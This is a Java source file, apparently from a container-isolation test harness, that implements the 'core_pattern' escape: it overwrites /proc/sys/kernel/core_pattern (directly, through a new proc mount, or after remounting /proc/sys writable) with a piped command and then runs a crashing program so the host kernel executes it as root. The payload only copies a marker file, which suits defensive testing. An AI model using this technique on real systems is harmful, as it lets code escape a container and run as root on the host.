package nutshell.escapes;

import java.nio.file.Path;
import java.util.List;
import nutshell.mounts.MountFlag;

/** Tells the kernel what to run when a program crashes, and crashes: the kernel runs it as root of the host; see core(5). */
record CorePattern() implements Escape {

    @Override
    public String word() {
        return "core-pattern";
    }

    @Override
    public String mistake() {
        return "/proc/sys can be written, and root inside is root outside";
    }

    @Override
    public Defence fix() {
        return Defence.USER_NAMESPACE;
    }

    private static final String SETTING = "sys/kernel/core_pattern";

    @Override
    public void make(Blueprint blueprint, Stake stake) {
        // A /proc that nobody has closed.
    }

    @Override
    public void prepare(Stake stake) {
        stake.preparations().willChange(Path.of("/proc", SETTING));
    }

    @Override
    public List<Attack> ways(Scene scene) {
        return List.of(
                attacker -> crash(attacker, "/proc", scene),
                attacker -> {
                    attacker.note("another proc, without anything mounted over it")
                            .mount("proc", "/mnt", "proc", null);
                    crash(attacker, "/mnt", scene);
                },
                attacker -> {
                    attacker.note("it was only mounted read-only")
                            .mount(null, "/proc/sys", null, null, MountFlag.MS_REMOUNT, MountFlag.MS_BIND);
                    crash(attacker, "/proc", scene);
                });
    }

    private static void crash(Attacker attacker, String proc, Scene scene) {
        attacker.note("what the kernel starts when a program crashes, as root of the host")
                .overwrite(
                        proc + "/" + SETTING,
                        "|/bin/cp %s %s"
                                .formatted(
                                        scene.stake().nonceFile(), scene.stake().left()));
        int program = attacker.create("/tmp/crash");
        attacker.sendBytes(program, CrashingProgram.bytes()).close(program);
        attacker.note("a program that crashes").execve(List.of("/tmp/crash"));
    }

    @Override
    public void afterwards(Scene scene) {
        scene.stake().awaitLeft();
        scene.stake().preparations().restoreSettings();
    }
}
